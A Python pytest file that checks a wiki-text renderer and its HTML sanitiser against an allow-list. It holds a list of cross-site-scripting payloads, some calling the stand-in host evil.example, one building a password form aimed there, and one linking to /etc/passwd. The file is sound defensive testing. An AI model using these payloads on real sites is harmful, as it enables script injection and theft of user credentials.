"""Nothing that anybody writes becomes script, style or markup that is not on the list."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.wikitext.render import Mark, ResolvedLink, render
from apps.wikitext.sanitise import ALLOWED, sanitise

CLASSES = {
    *("align-center", "align-left", "align-right", "cite", "missing", "footnote-backref", "footnote-item"),
    *("footnote-ref", "footnotes", "footnotes-list", "image", "quoted", "quote-error"),
}


SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
"""RFC 3986, 3.1; a browser leaves out control characters and blanks before it looks."""


class Reader(HTMLParser):
    """Refuses tags, attributes and addresses that are not on the list."""

    def __init__(self, html):
        super().__init__()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED
        for name, value in attrs:
            assert name in ALLOWED[tag]
            if name == "class":
                assert set(value.split()) <= CLASSES
            if name == "href" and (scheme := SCHEME.match(re.sub(r"[\x00-\x20]", "", value))):
                assert scheme[1].lower() in ("http", "https", "mailto")


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<div style='position:fixed'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</p><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org/ '\"onmouseover=alert(1)')",
    '![x" onerror="alert(1)](https://example.org/)',
    "[r]\n\n[r]: javascript:alert(1)",
    "```<script>\nx\n```",
    '```"onmouseover="alert(1)\nx\n```',
    '[[x" onmouseover="alert(1)]]',
    "[[<script>alert(1)</script>]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]]",
    '[@a, " onmouseover="alert(1)]',
    "[@a, <script>alert(1)</script>]",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "x^[<img src=x onerror=alert(1)>]",
    "| <script> |\n|:-:|\n| <b onclick=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>\x00alert(1)</script>",
]


def careless(target):
    """A resolver that passes on whatever was written."""
    return ResolvedLink(target.name, False, target.name)


def hostile_link(target):
    return ResolvedLink("javascript:alert(1)", True, "<script>")


def hostile_mark(citation):
    return Mark(1, '"><script>alert(1)</script>', '" onmouseover="alert(1)')


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(("link", "cite"), [(careless, lambda citation: None), (hostile_link, hostile_mark)])
def test_hostile_prose_is_harmless(payload, link, cite):
    html = render(payload, link=link, cite=cite).html
    Reader(html)
    for tag in ("<script", "<img", "<svg", "<iframe", "<style", "<base", "<form"):
        assert tag not in html.lower()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_html_is_harmless_even_if_the_renderer_let_it_through(payload):
    Reader(sanitise(payload))


MARKS = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "[[",
            "]]",
            "[@a",
            "|",
            "`",
            "```",
            "*",
            "_",
            "!",
            "\\",
            "&",
            "&#",
            ";",
            '"',
            "'",
        ),
        *(
            "javascript:",
            "data:",
            "script",
            " on",
            "onerror=",
            "style=",
            "=",
            "://",
            "\n",
            "\n\n",
            "    ",
            "# ",
            "> ",
            "- ",
        ),
        *("[^", "^[", "|---|", "\x00", "\u202e", "&colon;", "&Tab;", "x"),
    ]
)


@given(st.lists(MARKS | st.text(max_size=4), max_size=25).map("".join))
def test_any_prose_renders_to_what_is_on_the_list(text):
    rendered = render(text, link=careless, cite=hostile_mark)
    Reader(rendered.html)
    assert str(sanitise(rendered.html)) == str(rendered.html)


def test_the_list_itself_lets_no_script_or_style_in():
    assert not {"script", "style", "iframe", "object", "form", "svg", "img"} & set(ALLOWED)
    assert not {"style", "src", "srcdoc"} & {name for names in ALLOWED.values() for name in names}
    assert not [name for names in ALLOWED.values() for name in names if name.startswith("on")]


def test_the_reader_of_these_tests_would_notice():
    for html in ("<script>", "<p onclick=x>", '<a href="javascript:x">', '<p style="x">', "<img>"):
        with pytest.raises(AssertionError):
            Reader(html)
